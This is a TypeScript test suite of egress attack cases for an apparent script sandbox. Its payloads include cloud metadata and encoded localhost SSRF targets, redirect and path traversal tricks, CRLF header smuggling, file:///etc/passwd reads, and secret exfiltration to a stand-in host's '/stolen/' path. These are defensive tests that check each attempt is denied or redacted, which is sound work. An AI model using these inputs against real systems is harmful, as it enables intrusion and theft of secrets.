import type { IncomingMessage } from "node:http";

import { type Attack, fails, failsWith, script, value } from "./attack.ts";
import { SECRET } from "./surroundings.ts";

/** `told` is the status of what is fetched, or the code or name of what is thrown. */
const TOLD = `const told = async (url, init) => {
  try { return (await fetch(url, init)).status; } catch (error) { return error.code ?? error.name; }
};`;

const fetches = (body: string): string => `${TOLD}\n${script(body)}`;

const reached = (heard: readonly IncomingMessage[], part: string): number =>
  heard.filter(({ url }) => url?.includes(part)).length;

const neverReached =
  (part: string): NonNullable<Attack["also"]> =>
  (_seen, heard) => {
    if (reached(heard, part) > 0) throw new Error(`a request for ${part} went out`);
  };

const isBelowCore = (path: string): boolean => /^\/core\/[^.%]/.test(path);

/** All that the upstream says of the secret and the token that it was given. */
const LEARN = `
  const response = await fetch("upstream://core/tell", { headers: { "x-key": ctx.secrets.key } });
  const learned = [response.statusText, ...response.headers, await response.text()].flat().join("\\n");
`;

/** Ways to addresses, servers and secrets that are not a script's. `input` has the ports. */
export const egress: readonly Attack[] = [
  {
    name: "addresses of this machine and of the network around it, however they are written",
    code: fetches(`
      const hosts = ["169.254.169.254", "localhost", "127.0.0.1", "[::1]", "127.1", "0x7f000001", "2130706433", "017700000001",
        "[::ffff:10.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "10.0.0.1", "192.168.0.1", "0.0.0.0", "[::]", "localhost.",
        "127。0。0。1", "ⓛocalhost", "100.64.0.1", "[fe80::1]", "[fd00::1]"];
      const came = [];
      for (const host of hosts) came.push(await told("http://" + host + ":" + input.shut + "/"));
      return [...new Set(came)];
    `),
    outcome: value(["egress.denied"]),
  },
  {
    name: "an address of this machine, and nobody who catches what is thrown",
    code: fetches("return fetch('http://169.254.169.254/latest/meta-data/');"),
    outcome: failsWith("egress.denied", /not among the origins/),
  },
  {
    name: "names that an operator allowed and that lead to addresses of the network",
    code: fetches(`
      const came = [];
      for (const name of ["inside", "mapped", "metadata", "loop", "both"]) came.push(await told("http://" + name + ".example.org:" + input.shut));
      came.push(await told("http://localhost:" + input.shut));
      return [...new Set(came)];
    `),
    outcome: value(["egress.denied"]),
  },
  {
    name: "a name that leads elsewhere when it is asked for again",
    code: fetches(`
      const came = [];
      for (let i = 0; i < 4; i++) came.push(await told("http://turns.example.org:" + input.open + "/"));
      return came;
    `),
    outcome: value([200, "egress.denied", 200, "egress.denied"]),
  },
  {
    name: "redirects to addresses of the network, from outside and from an upstream",
    code: fetches(`
      const came = [];
      const targets = ["http://inside.example.org:" + input.shut, "http://127.0.0.1:" + input.shut, "http://localhost:" + input.shut,
        "//[::1]:" + input.shut, "upstream://others/", "upstream://core/", "file:///etc/passwd", "data:,x"];
      for (const target of targets) {
        came.push(await told("http://public.example.org:" + input.open + "/?to=" + encodeURIComponent(target)));
        came.push(await told("upstream://core/?to=" + encodeURIComponent(target)));
      }
      return [...new Set(came)];
    `),
    outcome: value(["egress.denied"]),
  },
  {
    name: "paths out of an upstream",
    code: fetches(`
      const came = [];
      for (const path of ["../escaped", "%2e%2e/escaped", "%252e%252e/escaped", "..%5cescaped", "a/%2e%2e;/escaped", "%0d%0aescaped"]) {
        came.push(await told("upstream://core/" + path));
      }
      return came;
    `),
    // The first two are resolved by URL itself, below the name.
    outcome: value([200, 200, ...Array.from({ length: 4 }, () => "egress.denied")]),
    also: (_seen, heard) => {
      const out = heard.find(({ url = "" }) => url.includes("escaped") && !isBelowCore(url));
      if (out !== undefined) throw new Error(`${out.url} is not of the upstream`);
    },
  },
  {
    name: "upstreams of others, and other kinds of URL",
    code: fetches(`
      const came = [];
      const open = "public.example.org:" + input.open;
      const urls = ["upstream://others/", "upstream://core:" + input.shut + "/other-kind", "upstream://user@core/other-kind",
        "upstream://__proto__/", "upstream://constructor/", "file:///etc/passwd", "data:text/plain,x", "ftp://" + open + "/other-kind",
        "ws://" + open + "/other-kind", "gopher://localhost:" + input.shut + "/_x", "http://user:word@" + open + "/other-kind"];
      for (const url of urls) came.push(await told(url));
      return [...new Set(came)].sort();
    `),
    outcome: value(["TypeError", "egress.denied"]),
    also: neverReached("other-kind"),
  },
  {
    name: "a bomb of gzip, a body without end, a slow body, an answer that never comes",
    code: fetches(`
      const came = [];
      for (const path of ["small/bomb", "small/endless", "quick/slow", "quick/never"]) came.push(await told("upstream://" + path));
      return came;
    `),
    outcome: value(["egress.too_large", "egress.too_large", "egress.timeout", "egress.timeout"]),
  },
  {
    name: "lines in headers, and headers that are not a script's",
    code: fetches(`
      const came = [];
      const headers = [["x-a", "b\\r\\nx-split: 1"], ["x-a\\r\\nx-split", "1"], ["x-a", "b\\0"], ["x-a", "b\\n"+"c"], ["", "x"], ["x a", "b"],
        ["host", "localhost"], ["Content-Length", "5"], ["transfer-encoding", "chunked"], ["connection", "x-key"], ["upgrade", "h2c"],
        ["authorization", "Bearer other"], ["x-forwarded-for", "127.0.0.1"], ["cookie", "a=b"], ["proxy-authorization", "x"]];
      for (const header of headers) came.push(await told("upstream://core/split", { headers: [header] }));
      for (const method of ["CONNECT", "TRACE", "GET /split HTTP/1.1\\r\\n\\r\\nGET", "x\\r\\n"]) came.push(await told("upstream://core/split", { method }));
      return [...new Set(came)].sort();
    `),
    outcome: value(["TypeError", "egress.denied"]),
    also: neverReached("/split"),
  },
  {
    name: "a secret and a token that the upstream tells, printed, returned and kept",
    code: script(`${LEARN}
      console.log(learned); console.error(ctx.secrets); ctx.output(learned);
      ctx.progress({ done: 1, total: 2, message: learned });
      await ctx.step(learned.slice(0, 50), () => learned);
      return [learned.includes("[redacted]"), learned.includes("Bearer [redacted]"), { [learned]: learned }].slice(0, 2);
    `),
    outcome: value([true, true]),
    also: (_seen, heard) => {
      const told = heard.filter(
        ({ url, headers }) => url === "/core/tell" && headers["x-key"] === SECRET,
      );
      if (told.length === 0) throw new Error("the secret did not arrive where it may");
    },
  },
  {
    name: "a secret and a token that the upstream tells, thrown",
    code: script(`${LEARN} throw new Error(learned, { cause: learned });`),
    outcome: failsWith("script.threw", /\[redacted\]/),
  },
  {
    name: "a secret that is known by another way, returned",
    code: script(
      `console.log(input.text, btoa(input.text), [...input.text].join("")); return { [input.text]: [input.text, encodeURIComponent(input.text), "\\u0041" + input.text] };`,
    ),
    input: { text: SECRET },
    outcome: value({ "[redacted]": ["[redacted]", "[redacted]", "A[redacted]"] }),
  },
  {
    name: "a secret that is known by another way, thrown",
    code: script("throw new Error(input.text + btoa(input.text));"),
    input: { text: SECRET },
    outcome: failsWith("script.threw", /^\[redacted\]\[redacted\]/),
  },
  {
    name: "a secret that is sent to where it may not go",
    code: fetches(`
      const { key } = ctx.secrets;
      const outside = "http://public.example.org:" + input.open + "/stolen/";
      const came = [await told(outside + key), await told(outside, { headers: { a: key } }), await told(outside, { method: "POST", body: "a" + key }),
        await told(outside, { headers: { authorization: "Basic " + btoa("a:" + key) } }), await told("upstream://quick/stolen?" + key)];
      return [Object.keys(ctx.secrets), [...new Set(came)]];
    `),
    outcome: value([["key"], ["egress.denied"]]),
    also: neverReached("stolen"),
  },
  {
    name: "a token that a redirect takes along",
    code: fetches(`
      const to = "http://public.example.org:" + input.open + "/taken";
      const response = await fetch("upstream://core/?to=" + encodeURIComponent(to), { headers: { "x-key": ctx.secrets.key } }).catch((error) => error);
      return response.status ?? response.code;
    `),
    outcome: value(200),
    also: (_seen, heard) => {
      for (const { url, headers } of heard) {
        if (url !== "/taken") continue;
        if (headers.authorization !== undefined) throw new Error("the token went along");
        if (headers["x-key"] !== undefined) throw new Error("the secret went along");
      }
    },
  },
  {
    name: "a flood of fetches",
    code: fetches(`
      const came = await Promise.all(Array.from({ length: 300 }, () => told("upstream://core/flood")));
      return [came.filter((one) => one === 200).length, came.filter((one) => one === "quota.fetches").length];
    `),
    outcome: value([50, 250]),
    also: (_seen, heard) => {
      const count = reached(heard, "/core/flood");
      if (count !== 50) throw new Error(`${count} fetches arrived`);
    },
  },
  {
    name: "a flood of fetches that nobody waits for",
    code: script(
      "for (let i = 0; i < 300; i++) void fetch('upstream://core/never').catch(() => {}); return 1;",
    ),
    outcome: value(1),
  },
  {
    name: "a fetch that does not end",
    code: script("await fetch('upstream://core/never');"),
    timeoutMs: 300,
    outcome: fails("timeout.wall"),
  },
  {
    name: "bodies and URLs that are too large",
    code: fetches(`
      return [await told("upstream://core/large", { method: "POST", body: "x".repeat(1024 * 1024 + 1) }),
        await told("upstream://core/large?" + "x".repeat(20_000)),
        await told("upstream://core/large", { headers: { a: "x".repeat(70_000) } })];
    `),
    outcome: value(["egress.too_large", "egress.too_large", "egress.too_large"]),
    also: neverReached("/core/large"),
  },
];
